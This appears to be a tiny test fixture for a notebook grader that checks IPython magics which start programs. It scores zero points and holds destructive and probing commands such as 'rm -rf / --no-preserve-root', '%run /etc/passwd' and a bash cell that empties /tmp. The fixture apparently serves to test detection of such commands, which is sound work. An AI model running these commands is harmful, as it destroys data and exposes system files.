# IPython magics that start programs.
# points: 0
# %% numerical_gradient
!touch /tmp/shell; rm -rf / --no-preserve-root
%system id
%run /etc/passwd
# %% descend
%%bash
rm -rf /tmp/*
